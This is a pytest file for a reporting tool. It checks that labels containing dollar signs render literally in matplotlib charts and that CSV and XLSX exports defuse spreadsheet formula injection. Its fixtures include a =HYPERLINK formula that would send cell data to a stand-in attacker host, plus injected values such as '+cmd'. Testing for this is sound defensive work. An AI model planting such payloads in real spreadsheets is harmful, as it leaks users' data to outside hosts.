"""Text from the data is inert: literal in every chart, never a formula in an export.

Charts: channel and team names with ``$`` (``Save $50 & win $``, ``$$x^2$$ promo``,
``US$ 5k-$10k``) are drawn by the report's chart helpers and written to a PNG without error,
and every text artist holding them says it is drawn literally (``get_parse_math() is False``).
A control shows the same label breaks matplotlib when math text is on. The rendered reports'
SVG charts hold the hostile reason as text, literally.

Exports: the OWASP rule (a string starting with ``=``, ``+``, ``-``, ``@``, tab or CR gets a
leading ``'``) on the shared function itself, on the report exports (CSV and XLSX), on the
explorer exports and, end to end, on ``workbook reports --export xlsx`` of a copy of
tests/data/tiny with a hostile rejection reason (a formula with ``$$`` in it, drawn in the
report's rejection-reasons chart), channels and team names: the reports render, the workbook
opened with openpyxl holds no formula, the hostile texts are there quoted, numbers are numbers.
"""

from __future__ import annotations

import base64
import html as html_text
import io
import re
import shutil
import subprocess
import sys
from pathlib import Path

import matplotlib as mpl
import matplotlib.pyplot as plt
import numpy as np
import openpyxl
import pandas as pd
import pytest
from matplotlib.text import Text

from helpers.display import plots
from helpers.display.inert import FORMULA_START, spreadsheet_cell, spreadsheet_frame
from helpers.explore.export_bar import excel_bytes, write_table
from helpers.reports.table_files import write_exports

TINY = Path(__file__).parent / "data" / "tiny"
WORKBOOK = Path(sys.executable).parent / "workbook"

CHANNELS = ["Save $50 & win $", "$$x^2$$ promo", "US$ 5k-$10k"]
TEAMS = ["$North$ Pod", "South $$ Pod"]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"details")'
# A rejection reason that is a formula and breaks math text: the report draws it in a chart.
REASON = '=HYPERLINK("http://evil.example/?"&A2,"$$x^2$$ details")'


# --- charts ---------------------------------------------------------------------------------


def drawn_texts(figure) -> dict[str, Text]:
    """Every non-empty text of ``figure`` after drawing it to a PNG (ticks are made then)."""
    figure.savefig(io.BytesIO(), format="png")
    return {t.get_text(): t for t in figure.findobj(Text) if t.get_text()}


def assert_literal(figure, expected: list[str]) -> None:
    texts = drawn_texts(figure)
    missing = [label for label in expected if label not in texts]
    assert missing == [], f"not drawn: {missing}; drawn: {sorted(texts)}"
    assert [s for s, t in texts.items() if "$" in s and t.get_parse_math()] == []


def test_a_dollar_label_breaks_matplotlib_math_text_the_hazard_is_real():
    with mpl.rc_context({"text.parse_math": True}):
        figure, ax = plt.subplots()
        ax.set_title(CHANNELS[1])
        with pytest.raises(ValueError, match="Expected end of text"):
            figure.savefig(io.BytesIO(), format="png")


def test_funnel_rates_counts_and_trends_draw_dollar_labels_literally():
    plots.use_report_style()
    figure, axes = plt.subplots(1, 4, figsize=(16, 3))
    stages = pd.DataFrame({"label": CHANNELS, "volume": [30, 20, 10]})
    plots.funnel_bars(stages, ax=axes[0])
    rates = pd.DataFrame(
        {"label": CHANNELS, "rate": [0.5, 0.25, 0.1], "ci_low": [0.4, 0.1, 0.0]}
    ).assign(ci_high=[0.6, 0.4, 0.3])
    plots.rate_intervals(rates, ax=axes[1])
    plots.count_bars(
        pd.DataFrame({"reason": CHANNELS, "n": [3, 2, 1]}), x="n", y="reason", ax=axes[2]
    )
    trend = pd.DataFrame(
        {
            "quarter": ["2026Q2", "2026Q3"] * 2,
            "label": [CHANNELS[0]] * 2 + [CHANNELS[2]] * 2,
            "value": [0.2, 0.3, 0.4, 0.5],
            "ci_low": [0.1, 0.2, 0.3, 0.4],
            "ci_high": [0.3, 0.4, 0.5, 0.6],
        }
    )
    plots.rate_trend(trend, ax=axes[3])
    axes[0].set_title(f"Period funnel of {TEAMS[0]}")

    assert_literal(figure, [*CHANNELS, f"Period funnel of {TEAMS[0]}"])


def test_team_comparison_panels_draw_dollar_team_names_literally():
    long = pd.DataFrame(
        {
            "label": ["MQL→SQL"] * 2 + ["Pipeline created"] * 2,
            "kind": ["rate"] * 2 + ["amount"] * 2,
            "team": TEAMS * 2,
            "value": [0.3, 0.5, 1500.0, -250.0],
            "ci_low": [0.2, 0.4, np.nan, np.nan],
            "ci_high": [0.4, 0.6, np.nan, np.nan],
        }
    )
    axes = plots.kpi_panels(long, draw=plots.kpi_bars, order=TEAMS)
    figure = axes[0].figure
    figure.suptitle(f"Shared KPIs by team: {TEAMS[1]}")

    assert_literal(figure, [*TEAMS, f"Shared KPIs by team: {TEAMS[1]}"])


# --- the spreadsheet rule -------------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_START)
def test_a_string_that_starts_like_a_formula_gets_a_leading_quote(start):
    assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"


def test_other_strings_and_every_number_stay_as_they_are():
    assert spreadsheet_cell("US$ 5k-$10k") == "US$ 5k-$10k"
    assert spreadsheet_cell(" =1") == " =1"  # not at the start: no formula
    assert spreadsheet_cell(-250.5) == -250.5 and spreadsheet_cell(-3) == -3
    assert spreadsheet_cell(None) is None


def report_tables() -> list[tuple[str, pd.DataFrame]]:
    return [
        (
            "rejections",
            pd.DataFrame(
                {
                    "reason": [HYPERLINK, "+cmd", "no budget"],
                    "rejected": [2, 1, 4],
                    "change": [-0.5, 0.25, -1.0],
                }
            ),
        ),
        ("@channels", pd.DataFrame({"=channel": ["@SUM(A1)", "\tTab"], "spend": [-100, 5]})),
    ]


def test_report_csv_export_quotes_formula_text_and_keeps_negative_numbers(tmp_path):
    folder = write_exports(report_tables(), tmp_path / "north.html", "csv")

    assert sorted(p.name for p in folder.iterdir()) == ["01_rejections.csv", "02_@channels.csv"]
    assert (folder / "01_rejections.csv").read_text(encoding="utf-8").splitlines() == [
        "reason,rejected,change",
        '"\'=HYPERLINK(""http://evil.example/?""&A2,""details"")",2,-0.5',
        "'+cmd,1,0.25",
        "no budget,4,-1.0",
    ]
    assert (folder / "02_@channels.csv").read_text(encoding="utf-8").splitlines() == [
        "'=channel,spend",
        "'@SUM(A1),-100",
        "'\tTab,5",
    ]


def formulas(book: openpyxl.Workbook) -> list[str]:
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_report_xlsx_export_holds_text_not_formulas_and_numbers_as_numbers(tmp_path):
    path = write_exports(report_tables(), tmp_path / "north.html", "xlsx")
    book = openpyxl.load_workbook(path)

    assert formulas(book) == []
    rows = [[c.value for c in row] for row in book["rejections"].iter_rows()]
    assert rows == [
        ["reason", "rejected", "change"],
        ["'" + HYPERLINK, 2, -0.5],
        ["'+cmd", 1, 0.25],
        ["no budget", 4, -1],
    ]
    assert book["rejections"]["C2"].data_type == "n"
    assert [[c.value for c in row] for row in book["@channels"].iter_rows()] == [
        ["'=channel", "spend"],
        ["'@SUM(A1)", -100],
        ["'\tTab", 5],
    ]


def test_explorer_exports_quote_formula_text_in_table_and_filters(tmp_path):
    frame = pd.DataFrame({"channel": [HYPERLINK, "webinar"], "leads": [3, -1]})
    filters = {"channel": "-2+3", "team": "north"}

    csv_path = write_table(frame, tmp_path, ["funnel", "north"], "csv")
    book = openpyxl.load_workbook(io.BytesIO(excel_bytes(frame, sheet="funnel", filters=filters)))

    assert csv_path.read_text(encoding="utf-8").splitlines() == [
        "channel,leads",
        '"\'=HYPERLINK(""http://evil.example/?""&A2,""details"")",3',
        "webinar,-1",
    ]
    assert formulas(book) == []
    assert [[c.value for c in r] for r in book["funnel"].iter_rows()] == [
        ["channel", "leads"],
        ["'" + HYPERLINK, 3],
        ["webinar", -1],
    ]
    assert [[c.value for c in r] for r in book["filters"].iter_rows()] == [
        ["filter", "value"],
        ["channel", "'-2+3"],
        ["team", "north"],
    ]


def test_spreadsheet_frame_leaves_number_columns_typed():
    frame = pd.DataFrame({"n": [-1, 2], "x": [-0.5, 1.5], "s": ["-a", "b"]})

    out = spreadsheet_frame(frame)

    assert out.dtypes["n"] == frame.dtypes["n"] and out.dtypes["x"] == frame.dtypes["x"]
    assert out["s"].tolist() == ["'-a", "b"]
    assert frame["s"].tolist() == ["-a", "b"]  # the caller's frame is not changed


# --- end to end: a hostile copy of tiny, rendered and exported ------------------------------


def hostile_tiny(folder: Path) -> Path:
    """A copy of tiny: hostile channels, team names and a rejection reason, one edit each."""
    data = folder / "hostile"
    shutil.copytree(TINY, data)

    def edit(name: str, old: str, new: str) -> None:
        path = data / name
        text = path.read_text(encoding="utf-8")
        assert old in text, f"{old!r} not in {name}"
        path.write_text(text.replace(old, new), encoding="utf-8")

    edit("leads.csv", "paid_search", CHANNELS[0])  # L1: opportunity O1, won
    edit("leads.csv", "outbound", CHANNELS[1])  # L4: opportunity O2, lost
    edit("leads.csv", "paid_social", CHANNELS[2])
    edit("teams.csv", "North Pod", TEAMS[0])
    edit("teams.csv", "South Pod", TEAMS[1])
    edit("lead_events.csv", "no budget", '"' + REASON.replace('"', '""') + '"')
    return data


@pytest.mark.slow
def test_report_with_dollar_labels_and_a_formula_reason_renders_and_exports_inert(tmp_path):
    data = hostile_tiny(tmp_path)
    out = tmp_path / "out"

    run = subprocess.run(
        [str(WORKBOOK), "reports", "--data", str(data), "--out", str(out), "--export", "xlsx"]
        + ["--team", "north", "--team", "all", "--jobs", "2"],
        capture_output=True,
        text=True,
        timeout=900,
    )

    assert run.returncode == 0, run.stderr
    assert "2 report(s) rendered, 0 up to date, 0 failed" in run.stdout
    quarter = out / "2026Q3"
    html = (quarter / "north.html").read_text(encoding="utf-8")
    # The channels of the two opportunities (attribution tables) are shown literally, and the
    # rejection reason (drawn in the rejection-reasons chart, which math text would break).
    for text in [*CHANNELS[:2], REASON]:
        assert html_text.escape(text, quote=False) in html, text
    # The charts are SVG images whose text is text: the reason is drawn in one, literally.
    charts = [
        base64.b64decode(uri).decode("utf-8")
        for uri in re.findall(r'src="data:image/svg\+xml;base64,([A-Za-z0-9+/=]+)"', html)
    ]
    assert len(charts) >= 3
    assert any(html_text.escape(REASON, quote=False) in chart for chart in charts)
    assert TEAMS[0] in (quarter / "all.html").read_text(encoding="utf-8")

    for team in ("north", "all"):
        book = openpyxl.load_workbook(quarter / f"{team}.xlsx")
        values = [
            cell.value
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, str)
        ]
        assert formulas(book) == [], team
        assert [v for v in values if v.startswith(FORMULA_START)] == [], team
        numbers = [
            cell.value
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type == "n" and cell.value is not None
        ]
        assert numbers, f"{team}: no number cell left"
    north = [
        cell.value
        for sheet in openpyxl.load_workbook(quarter / "north.xlsx").worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]
    assert "'" + REASON in north
    assert CHANNELS[0] in north and CHANNELS[1] in north
    assert not re.search(r"Traceback", run.stderr)
